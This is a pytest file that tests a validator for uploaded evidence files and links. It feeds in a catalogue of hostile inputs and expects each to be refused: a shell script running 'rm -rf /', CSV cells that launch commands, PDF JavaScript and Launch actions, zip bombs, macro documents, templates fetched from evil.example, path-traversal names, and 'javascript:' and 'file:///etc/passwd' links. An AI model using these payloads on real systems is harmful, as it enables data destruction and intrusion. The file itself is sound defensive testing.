"""What a file of evidence is, by its content; and files that would harm whoever opens them."""

import io
import struct
import zipfile

import pytest

from governance import evidence_file_types as types
from governance.evidence_files import UnfitFile, check_file
from governance.evidence_links import UnfitLink, check_link
from tests.governance import evidence_makers as makers
from tests.governance.evidence_makers import HONEST, office, open_document, pdf, png, relation, zipped

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>'
PAGE = b"<!DOCTYPE html><html><body>Plain</body></html>"
LINK_OUT = '<draw:image draw:name="x" xlink:href="https://evil.example/x.png"/>'


def bomb() -> bytes:
    """Ten million noughts in a few thousand bytes."""
    return office("docx", {"word/media/image1.png": b"\0" * 10_000_000})


def lying() -> bytes:
    """A part that says it unpacks to one byte."""
    content = bytearray(office("docx"))
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"PK\x01\x02"))
    content[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(content)


def doubled() -> bytes:
    """An archive with two parts of one name."""
    out = io.BytesIO(office("docx"))
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("word/document.xml", "<other/>")
    return out.getvalue()


def locked() -> bytes:
    """An archive whose parts are marked as encrypted."""
    content = bytearray(office("docx"))
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def nameless() -> bytes:
    """An archive with a part whose name begins with a NUL in the directory: readers take it for none."""
    content = office("docx", {"word/more.xml": "<more/>"})
    at = content.rindex(b"word/more.xml")
    return content[:at] + b"\0" + content[at + 1 :]


HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "empty": ("a.pdf", b"", "is empty"),
    "over 10 MB": ("a.txt", b"a" * (types.MOST_BYTES + 1), "most that is kept is 10 MB"),
    "a program renamed .pdf": ("a.pdf", b"MZ\x90\x00" + b"\0" * 99, "is a program"),
    "a Linux program renamed .docx": ("a.docx", b"\x7fELF\x02\x01" + b"\0" * 99, "is a program"),
    "a shell script renamed .txt": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "is a program"),
    "a PDF named as a program": ("report.pdf.exe", pdf(), "name ending in .pdf"),
    "a Word document named .pdf": ("a.pdf", office(), "is a Word document, but its name .* .docx"),
    "a picture named .pdf": ("a.pdf", png(), "is a PNG picture, but"),
    "a PDF without an ending": ("report", pdf(), "name ending in .pdf"),
    "a name written backwards": ("report\u202efdp.exe", pdf(), "name ending in .pdf"),
    "a drawing": ("a.svg", SVG, "web page or a drawing"),
    "a drawing with a script": (
        "a.png",
        SVG.replace(b"<circle", b"<script>alert(1)</script><circle"),
        "web page",
    ),
    "a drawing behind a comment": ("a.txt", b"\n<!-- hello -->" + SVG, "web page or a drawing"),
    "a web page": ("a.txt", PAGE, "web page or a drawing"),
    "a web page behind words": ("a.txt", b"Minutes of May\n" + PAGE, "web page or a drawing"),
    "a web page in a table": ("a.csv", b"a,b\n1,<script src=x>\n", "web page or a drawing"),
    "a bomb": ("a.docx", bomb(), "100 times its size"),
    "a part that lies about its size": ("a.docx", lying(), "is damaged"),
    "two parts of one name": ("a.docx", doubled(), "two parts of the same name"),
    "something before the document": ("a.docx", b"GIF89a" + office(), "hidden behind the first"),
    "an archive behind a picture": ("a.png", png(zipped({"x": "y"})), "hidden behind the first"),
    "an archive behind a PDF": ("a.pdf", pdf() + zipped({"x": "y"}), "hidden behind the first"),
    "words behind a picture": ("a.png", png(b"<script>"), "Something else follows"),
    "a torn picture": ("a.png", png()[:-9], "cut short"),
    "a torn photo": ("a.jpg", makers.jpeg()[:-2], "cut short"),
    "a torn document": ("a.docx", office()[:-40], "damaged or cut short"),
    "an archive": ("a.zip", zipped({"a.txt": "a"}), "archive of other files"),
    "an archive named .docx": ("a.docx", zipped({"a.txt": "a"}), "archive of other files"),
    "another archive": ("a.docx", b"7z\xbc\xaf\x27\x1c" + b"\0" * 40, "archive of other files"),
    "macros": ("a.docx", office("docx", {"word/vbaProject.bin": b"\0"}), "holds macros"),
    "macros told by the index": (
        "a.xlsx",
        office("xlsx", types_too=("application/vnd.ms-office.vbaProject",)),
        "macros",
    ),
    "a macro document renamed": (
        "a.docx",
        office(
            "docx",
            {"[Content_Types].xml": makers.types("application/vnd.ms-word.document.macroEnabled.main+xml")},
        ),
        "holds macros",
    ),
    "old macro sheets": ("a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}), "holds macros"),
    "an object of another program": (
        "a.docx",
        office("docx", {"word/embeddings/oleObject1.bin": b"\0"}),
        "macros",
    ),
    "a template from elsewhere": (
        "a.docx",
        office(
            "docx",
            {
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", "https://evil.example/t.dotm", "External"
                )
            },
        ),
        "fetches",
    ),
    "a picture from elsewhere": (
        "a.pptx",
        office(
            "pptx", {"ppt/slides/_rels/slide1.xml.rels": relation("image", "//evil.example/x", "external")}
        ),
        "fetches",
    ),
    "figures from another workbook": (
        "a.xlsx",
        office("xlsx", {"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}),
        "fetches",
    ),
    "an index that unfolds": (
        "a.docx",
        office("docx", {"[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'}),
        "index of the file cannot be read",
    ),
    "an Office file of no known kind": (
        "a.docx",
        office("docx", {"[Content_Types].xml": makers.types("text/xml")}),
        "of a kind",
    ),
    "a document with a password": ("a.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "by a password"),
    "an archive with a nameless part": ("a.docx", nameless(), "damaged or cut short"),
    "an archive with a password": ("a.docx", locked(), "by a password"),
    "an OpenDocument with a password": (
        "a.odt",
        open_document(extra={"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "by a password",
    ),
    "an OpenDocument with macros": (
        "a.odt",
        open_document(extra={"Basic/Standard/Module1.xml": "<a/>"}),
        "macros",
    ),
    "an OpenDocument that acts": (
        "a.ods",
        open_document("spreadsheet", "<script:event-listener/>"),
        "macros",
    ),
    "an OpenDocument that fetches": ("a.odt", open_document(content=LINK_OUT), "fetches"),
    "an OpenDocument that unfolds": ("a.odt", open_document(content="<!DOCTYPE x>"), "without end"),
    "an OpenDocument presentation": ("a.odp", open_document("presentation"), "of a kind that is not kept"),
    "an old Word document": ("a.doc", OLE, "old Office kind"),
    "a locked PDF": ("a.pdf", pdf("/Encrypt 9 0 R"), "is protected"),
    "a PDF with a script": (
        "a.pdf",
        pdf("/OpenAction << /S /JavaScript /JS (app.alert) >>"),
        "script or another",
    ),
    "a PDF with a script in disguise": (
        "a.pdf",
        pdf("/OpenAction << /S /#4aavaScript >>"),
        "script or another",
    ),
    "a PDF that starts a program": ("a.pdf", pdf("/A << /S /Launch /F (x.exe) >>"), "script or another"),
    "a PDF with another file in it": ("a.pdf", pdf("/Names << /EmbeddedFiles 4 0 R >>"), "script or another"),
    "a torn PDF": ("a.pdf", pdf()[:-30], "cut short"),
    "a page behind a PDF": ("a.pdf", pdf(after=b"\n<html>"), "something else follows"),
    "a table that runs": ("a.csv", b"a,b\n1,=HYPERLINK(1)\n", "Line 2 has a cell"),
    "a ragged table that runs": ("a.csv", b'title\n1,2,"@SUM(1)"\n', "Line 2 has a cell"),
    "a table that runs a command": ("a.txt", b"a,b\n1,-2+3+cmd|' /C calc'!A0\n", "Line 2 has a cell"),
    "text in UTF-16": ("a.txt", "Grüße".encode("utf-16"), "UTF-16"),
    "text in another encoding": ("a.txt", "Grüße".encode("cp1252"), "save text as UTF-8"),
    "text with a nought": ("a.txt", b"a\0b", "of no kind that is kept"),
    "rich text": ("a.txt", b"{\\rtf1 hello}", "rich text"),
    "a moving picture": ("a.gif", b"GIF89a\x01\x00\x01\x00" + b"\0" * 20, "PNG or JPEG"),
    "a film": ("a.mp4", b"\0\0\0\x18ftypmp42" + b"\0" * 20, "PNG or JPEG"),
}


@pytest.mark.parametrize("kind", HONEST)
def test_an_honest_file_is_taken_for_what_it_is(kind: str) -> None:
    name, content, content_type = HONEST[kind]
    checked = check_file(content, name=name)
    assert (checked.kind.content_type, checked.content, checked.size) == (content_type, content, len(content))


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_gets_a_sentence(what: str) -> None:
    name, content, sentence = HOSTILE[what]
    with pytest.raises(UnfitFile, match=sentence) as refused:
        check_file(content, name=name)
    assert str(refused.value).endswith(".")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/minutes.PDF", "minutes.pdf"),
        ("C:\\Users\\ben\\minutes.pdf", "minutes.pdf"),
        ("min\nutes\u202e.pdf", "minutes.pdf"),
        ("  ..hidden.pdf ", "hidden.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
        ("Größe, 2026.pdf", "Größe, 2026.pdf"),
    ],
)
def test_a_name_leads_nowhere_else(given: str, kept: str) -> None:
    assert check_file(pdf(), name=given).name == kept


def test_many_streams_without_an_end_cost_little() -> None:
    with pytest.raises(UnfitFile):
        check_file(b"%PDF-1.7\n" + b"stream\n" * 400_000 + b"/JS 1\n%%EOF", name="a.pdf")


def test_many_unclosed_elements_cost_little() -> None:
    content = zipped(
        {"mimetype": f"{makers.OASIS}.text", "content.xml": "<draw:image " * 400_000}, zipfile.ZIP_STORED
    )
    assert check_file(content, name="a.odt").kind == types.ODT


def test_a_document_of_many_parts_is_refused() -> None:
    parts = {f"word/{number}.xml": "" for number in range(types.MOST_PARTS)}
    with pytest.raises(UnfitFile, match="parts"):
        check_file(office(extra=parts), name="a.docx")


# --- Links -------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "address",
    [
        "https://example.org/a?b=c#d",
        "http://intranet.example/x",
        "HTTPS://Example.org/",
        "https://[::1]:8000/",
    ],
)
def test_a_web_address_is_kept_as_it_is(address: str) -> None:
    assert check_link(f" {address} ") == address


@pytest.mark.parametrize(
    ("address", "sentence"),
    [
        ("", "begins with https"),
        ("example.org/a", "begins with https"),
        ("javascript:alert(1)", "begins with https"),
        ("data:text/html,x", "begins with https"),
        ("ftp://example.org/", "begins with https"),
        ("file:///etc/passwd", "begins with https"),
        ("//example.org/", "begins with https"),
        ("https:///x", "begins with https"),
        ("https://ben:secret@example.org/", "user name or a password"),
        ("https://ben@example.org/", "user name or a password"),
        ("https://example.org/a b", "a space or a sign"),
        ("https://example.org/\u202ex", "a space or a sign"),
        ("https://example.org\\@evil.example/", "a space or a sign"),
        ("https://example.org/<script>", "a space or a sign"),
        ("https://[::1/", "cannot be read"),
        ("https://example.org:port/", "cannot be read"),
        ("https://example.org/" + "x" * 500, "longer than 500"),
    ],
)
def test_an_address_that_cannot_be_kept_gets_a_sentence(address: str, sentence: str) -> None:
    with pytest.raises(UnfitLink, match=sentence):
        check_link(address)
